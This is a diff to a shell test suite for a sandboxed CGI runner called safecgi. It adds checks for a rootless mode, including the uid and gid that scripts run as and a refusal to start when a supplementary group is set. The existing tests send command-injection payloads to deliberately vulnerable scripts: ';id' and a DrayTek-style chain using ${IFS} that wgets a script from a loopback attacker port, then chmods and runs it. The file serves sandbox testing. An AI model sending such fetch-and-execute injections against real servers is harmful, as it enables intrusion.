@@ -28,6 +28,16 @@ PWNED=hostile-pwned
 # every process of a uid on the host, and other test files running
 # scripts as nobody at the same time would eat into this file's limit.
 JAIL_UID=64123
+# t_jail_rootless.sh runs this whole file with safecgi itself started by
+# JAIL_UID (ROOTLESS=1): scripts then run as that uid and gid, with no
+# supplementary group at all (a user namespace cannot set one).
+JAIL_GID=$JAIL_UID
+if [ -n "${ROOTLESS:-}" ]; then
+	ROOTLESS_UID=$JAIL_UID
+	JAIL_GROUPS=
+else
+	JAIL_GROUPS=$JAIL_UID
+fi
 
 # running NAME: pids of live (not zombie) processes called NAME
 running() {
@@ -283,8 +293,20 @@ check "the loopback attacker hears TCP, UDP and abstract unix clients on the hos
 
 s=$(http_status "$BASE/cgi-bin/hello?id")
 check "scripts run as the profile's uid and gid, with no supplementary group" \
-    sh -c "grep -q '^uid=$JAIL_UID gid=$JAIL_UID\$' '$T/body' &&
-	grep -q '^Groups:	$JAIL_UID *\$' '$T/body'"
+    sh -c "grep -q '^uid=$JAIL_UID gid=$JAIL_GID\$' '$T/body' &&
+	grep -q '^Groups:	$JAIL_GROUPS *\$' '$T/body'"
+if [ -n "$ROOTLESS_UID" ]; then
+	WWW_GID=$(getent group www-data | cut -d: -f3)
+	check "rootless: safecgi itself runs as the unprivileged user" \
+	    [ "$(stat -c %u "/proc/$SAFECGI_PID")" = "$JAIL_UID" ]
+	check "rootless: the start-up report names the uid scripts run as" \
+	    grep -q "rootless: scripts run as uid $JAIL_UID gid $JAIL_GID" "$ERRLOG"
+	check "rootless with a supplementary group: refuses to start, says why" \
+	    sh -c "! timeout 10 setpriv --reuid=$JAIL_UID --regid=$JAIL_UID \
+	    --groups=$WWW_GID '$SAFECGI' -s 'unix:$T/other.sock' \
+	    --profile-dir '$T/profiles' 2>'$T/refusal' &&
+	    grep -q 'supplementary group $WWW_GID' '$T/refusal'"
+fi
 check "scripts hold no capability in any set, with no_new_privs and a seccomp filter" \
     sh -c "grep -q '^CapInh:	0000000000000000' '$T/body' &&
 	grep -q '^CapPrm:	0000000000000000' '$T/body' &&
@@ -677,7 +699,7 @@ check "the DrayTek chain reached execve and Landlock refused wget" \
 s=$(http_status "$BASE/cgi-bin/vuln_leaky.sh?;id" -g)
 bl=$(tr '\n' ' ' < "$T/body")
 check "with exec opened up, injected id runs, as the profile's uid without groups" \
-    grep -q "^uid=$JAIL_UID gid=$JAIL_UID groups=$JAIL_UID\$" "$T/body"
+    grep -q "^uid=$JAIL_UID gid=$JAIL_GID[^ ]* groups=$JAIL_GID[^ ]*\$" "$T/body"
 audit_mark
 inject vuln_leaky.sh "draytek-mainfunction (wget allowed to run)" \
     "$BASE/cgi-bin/vuln_leaky.sh?;wget\${IFS}-T3\${IFS}-t1\${IFS}http://127.0.0.1:$APORT/wget.sh;\${IFS}chmod\${IFS}+x\${IFS}wget.sh;sh\${IFS}wget.sh"
